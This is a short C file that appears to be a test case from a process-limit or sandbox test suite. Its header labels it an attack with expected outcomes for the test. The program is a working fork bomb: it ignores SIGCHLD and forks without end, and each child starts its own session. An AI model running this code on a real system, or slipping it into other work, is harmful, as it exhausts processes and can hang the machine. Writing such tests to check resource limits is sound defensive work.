/*
 * Attack: a fork bomb, in sessions of their own.
 * Outcome: fail/process-limit fail/other
 */
#include <signal.h>
#include <unistd.h>

int main(void)
{
	signal(SIGCHLD, SIG_IGN);
	for (;;)
		if (fork() == 0)
			setsid();
}
